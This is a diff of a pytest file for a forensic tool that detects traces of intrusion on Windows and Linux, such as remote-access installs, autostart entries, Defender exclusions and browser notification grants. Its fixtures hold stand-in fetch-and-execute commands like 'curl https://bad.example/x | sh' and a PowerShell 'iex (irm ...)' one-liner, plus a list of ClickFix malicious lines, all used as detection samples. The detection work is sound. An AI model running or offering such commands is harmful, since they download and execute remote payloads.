@@ -4,76 +4,137 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shutil
+import sys
+import time
+import tomllib
+from collections.abc import Callable
 from datetime import timedelta
 from pathlib import Path
+from random import Random
 from types import SimpleNamespace
 
 import pytest
 
-from app.evidence.probes import PROBES, look_back
+from app.evidence import places
+from app.evidence.probes import PROBES, UNINSTALL, look_back
 from app.evidence.remote_logs import TERMINAL
 from app.evidence.report import run, told
 from app.evidence.traces import Evidence, Looked
 from app.texts import Library
 from tests.evidence.conftest import NOW, event, put, since_1601
+from tests.evidence.test_remote_logs import SAMPLES
 
 OLD = NOW - timedelta(days=30)
 USER, PC = "HKEY_CURRENT_USER", "HKEY_LOCAL_MACHINE"
 VERSION, DEFENDER = r"Software\Microsoft\Windows\CurrentVersion", rf"{PC}\SOFTWARE\Microsoft\Windows Defender"
-FETCH, CURL = "powershell -w h iex (irm https://bad.example/x)", "curl https://bad.example/x | sh"
+CURL, DPKG = "curl https://bad.example/x | sh", "%Y-%m-%d %H:%M:%S install came"
+CLICKFIX = tomllib.loads((Path(__file__).parents[1] / "companion" / "clickfix.toml").read_text(encoding="utf-8"))
+FETCHING = [line for line in CLICKFIX["malicious"] if "//" in line]
+NAMES = ("AnyDesk", "ウイルス駆除 2026", "Support-Tool (x64) 1.0", "Ｏｆｆｉｃｅ", "PC Cleaner & Booster", "é-Lève")
+BROWSERS = ("Google/Chrome", "Microsoft/Edge", "BraveSoftware/Brave-Browser")
 RULE = {"setting": 1, "last_modified": str(since_1601(NOW))}
 PAGES = {"https://bad.example:443,*": RULE, "https://no.example:443,*": RULE | {"setting": 2}}
 PREFERENCES = json.dumps({"profile": {"content_settings": {"exceptions": {"notifications": PAGES}}}})
 
+SPOILT: dict[str, Callable[[Path], object]] = {
+    "huge": lambda file: (file.touch(), os.truncate(file, 10**9)),
+    "foreign": lambda file: file.write_bytes("履歴".encode("cp932") * 9 + bytes(range(256))),
+    "locked": lambda file: file.symlink_to("/proc/self/mem"),
+    "looped": lambda file: file.symlink_to(file),
+    "lost": lambda file: file.symlink_to("nowhere"),
+    "pipe": os.mkfifo if sys.platform == "linux" else Path.touch,
+    "folder": Path.mkdir,
+}
 
-def found(evidence: Evidence) -> dict[str, list[tuple[str, str]]]:
-    return {
-        looked.probe: [(trace.what, trace.other) for trace in looked.traces] for looked in evidence if looked.traces
-    }
+
+def found(evidence: Evidence) -> dict[str, set[str]]:
+    return {one.probe: {trace.other or trace.what for trace in one.traces} for one in evidence if one.traces}
 
 
-def test_what_windows_notes_of_the_last_two_days(windows: SimpleNamespace, home: Path) -> None:
-    windows.keys |= {
-        rf"{PC}\{VERSION}\Uninstall\A": ({"DisplayName": "AnyDesk"}, NOW),
-        rf"{PC}\{VERSION}\Uninstall\B": ({"DisplayName": "Old"}, OLD),
-        rf"{USER}\{VERSION}\Explorer\RunMRU": ({"a": f"{FETCH}\\1", "b": "cmd\\1", "MRUList": "ab"}, NOW),
-        rf"{USER}\{VERSION}\Run": ({"OneDrive": "x", "Evil": "y"}, NOW),
-        rf"{PC}\{VERSION}\Run": ({"SecurityHealth": "z"}, OLD),
+@pytest.fixture(autouse=True)
+def own_log(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What this PC has in /var/log is nobody's concern."""
+    listed = places._listed
+    monkeypatch.setattr(places, "_listed", lambda folder, name: listed(folder.replace("/var/log", f"{home}/log"), name))
+
+
+def leave(dice: Random, home: Path, staged: SimpleNamespace) -> dict[str, set[str]]:
+    """What a criminal leaves on Windows, beside what was there; returns what is to be told of it."""
+    at, (new, gone, own) = NOW - timedelta(minutes=dice.randint(30, 2800)), dice.sample(NAMES, 3)
+    (typed, *lines), page = dice.sample(FETCHING, 4), f"https://n{dice.random()}.example"
+    file, content, other, _ = SAMPLES[dice.choice([*SAMPLES])]
+    number = re.sub(r"\d", lambda _: dice.choice("123456789"), other)
+    put(home, file, f"\r\n{content}".replace(other, number), dice.choice(["utf-8", "utf-16"]))
+    put(home, "APPDATA/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "\n".join(["dir", *lines]))
+    put(home, f"APPDATA/Microsoft/Windows/Start Menu/Programs/Startup/{gone}.lnk", "")
+    profile = f"LOCALAPPDATA/{dice.choice(BROWSERS)}/User Data/Profile {dice.randint(1, 9)}"
+    put(home, f"{profile}/Preferences", PREFERENCES.replace("https://bad.example:443", page))
+    staged.keys |= {
+        rf"{dice.choice(UNINSTALL)}\{{A}}": ({"DisplayName": new}, at),
+        rf"{dice.choice(UNINSTALL)}\B": ({"DisplayName": own}, OLD),
+        rf"{USER}\{VERSION}\Explorer\RunMRU": ({"a": f"{typed}\\1", "b": "cmd\\1", "MRUList": "ab"}, at),
+        rf"{dice.choice([USER, PC])}\{VERSION}\{dice.choice(['Run', 'RunOnce'])}": ({"OneDrive": "x", new: "y"}, at),
+        rf"{PC}\{VERSION}\RunOnce\Old": ({"SecurityHealth": "z"}, OLD),
         rf"{PC}\SYSTEM\CurrentControlSet\Control\Terminal Server": ({"fDenyTSConnections": 0}, OLD),
-        rf"{DEFENDER}\Exclusions\Paths": None,
+        rf"{DEFENDER}\Exclusions\{dice.choice(['Paths', 'Processes', 'Extensions'])}": ({new: 0}, OLD),
     }
-    log, changed = "Microsoft-Windows-Windows Defender", r"HKLM\SOFTWARE\…\Exclusions\Paths\C:\Users = 0x0"
-    client = event("chromoting", 1, NOW, "thief@example.com/chromoting_ftl_1")
-    windows.events["Application"] = [event("MsiInstaller", 1034, NOW, "Office", "16.0"), client]
-    windows.events[f"{log}/Operational"] = [event(log, 5007, NOW, "Microsoft Defender", changed)]
-    began = [event(TERMINAL, 21, NOW, "PC\\hanako", "2", address) for address in ("ローカル", "192.0.2.9")]
-    windows.events[f"{TERMINAL}/Operational"] = began
-    put(home, "APPDATA/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", f"dir\n{FETCH}\n")
-    put(home, "LOCALAPPDATA/Google/Chrome/User Data/Default/Preferences", PREFERENCES)
-    evidence = look_back()
-    assert found(evidence) == {
-        "connections": [("chrome-remote-desktop", "thief@example.com"), ("windows", "192.0.2.9")],
-        "programs": [("AnyDesk", ""), ("Office", "")],
-        "typed": [(FETCH, "")],
-        "fetched": [(FETCH, "")],
-        "starts": [("OneDrive, Evil", "")],
-        "remote_desktop": [("", "")],
-        "protection": [(r"C:\Users = 0x0", "")],
-        "notices": [("https://bad.example:443", "")],
+    log, changed = "Microsoft-Windows-Windows Defender", rf"HKLM\SOFTWARE\…\Exclusions\Paths\{own} = 0x0"
+    client, address = f"thief{dice.random()}@example.com", f"192.0.2.{dice.randint(1, 254)}"
+    off, but = event(log, 5001, at, "Microsoft Defender"), event(log, 5007, at, "Microsoft Defender", changed)
+    began = [event(TERMINAL, dice.choice([21, 25]), at, "PC\\hanako", "2", who) for who in ("ローカル", address)]
+    removed = event("MsiInstaller", 1034, at, gone, "16.0")
+    staged.events["Application"] = [removed, event("chromoting", 1, at, f"{client}/chromoting_ftl_1")]
+    staged.events |= {f"{log}/Operational": [off, but], f"{TERMINAL}/Operational": began}
+    told = {"connections": {number, client, address}, "programs": {new, gone}, "typed": {typed[:80]}}
+    told |= {
+        "fetched": {" ".join(line[:320].split())[:80] for line in lines},
+        "starts": {f"OneDrive, {new}", f"{gone}.lnk"},
     }
-    assert [looked.probe for looked in evidence if looked.closed] == ["protection"]
-    windows.events["Application"] = None
-    assert look_back()[0].closed == ("Application: chromoting",), "that it could not look is a result"
+    return told | {"remote_desktop": {""}, "protection": {new, "", f"{own} = 0x0"}, "notices": {page}}
+
+
+@pytest.mark.parametrize("seed", range(10))
+def test_what_was_left_on_windows_is_told_and_nothing_else(windows: SimpleNamespace, home: Path, seed: int) -> None:
+    """Sixteen traces each, over all probes."""
+    expected = leave(Random(seed), home, windows)
+    assert found(look_back()) == expected
+    windows.keys[rf"{DEFENDER}\Exclusions\Paths"] = windows.events["Application"] = None
+    evidence = {looked.probe: looked.closed for looked in look_back() if looked.closed}
+    assert evidence["connections"] == ("Application: chromoting",), "that it could not look is a result"
+    assert {*evidence} == {"connections", "programs", "protection"}
+
+
+def test_of_500_programs_that_were_there_nothing_is_told_within_3_seconds(home: Path, windows: SimpleNamespace) -> None:
+    windows.keys |= {rf"{UNINSTALL[at % 3]}\P{at}": ({"DisplayName": f"P{at}"}, OLD) for at in range(500)}
+    began = time.monotonic()
+    evidence = look_back(within=3.0)
+    assert time.monotonic() - began < 3
+    assert not any(looked.traces or looked.closed for looked in evidence)
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="kinds of files that Linux has")
+@pytest.mark.parametrize("kind", SPOILT)
+def test_no_file_is_a_fault(home: Path, kind: str) -> None:
+    put(home, ".zsh_history", f"{CURL}\n")
+    SPOILT[kind](home / ".bash_history")
+    [looked] = [one for one in look_back() if one.probe == "fetched"]
+    assert [trace.what for trace in looked.traces] == [CURL]
+    assert any("bash" in place for place in looked.closed) is (kind == "locked")
 
 
 def test_what_linux_notes_and_where_it_cannot_look(home: Path) -> None:
+    for file in Path("/etc/skel").glob(".*"):
+        shutil.copy(file, home)
+    assert not found(look_back()), "a fresh home"
+    put(home, "log/dpkg.log", "".join(f"{at.astimezone():{DPKG}}:all 1 <none>\n" for at in (OLD, NOW)))
     put(home, ".config/autostart/evil.desktop", "")
     os.utime(put(home, ".config/autostart/old.desktop", ""), (OLD.timestamp(), OLD.timestamp()))
     put(home, ".bash_history", f"ls\n{CURL}\n")
     put(home, ".config/chromium/Default/Preferences", PREFERENCES[:-9])
     evidence = look_back()
-    assert found(evidence)["starts"] == [("evil.desktop", "")]
-    assert found(evidence)["fetched"] == [(CURL, "")]
+    assert found(evidence) == {"programs": {"came"}, "starts": {"evil.desktop"}, "fetched": {CURL}}
     assert [looked.probe for looked in evidence if looked.closed] == ["notices"], "a torn file was not looked at"
     assert [looked.probe for looked in evidence if not looked.where] == ["typed", "remote_desktop", "protection"]
     assert not any(looked.where or looked.traces for looked in look_back(within=-1.0)), "when time is up"
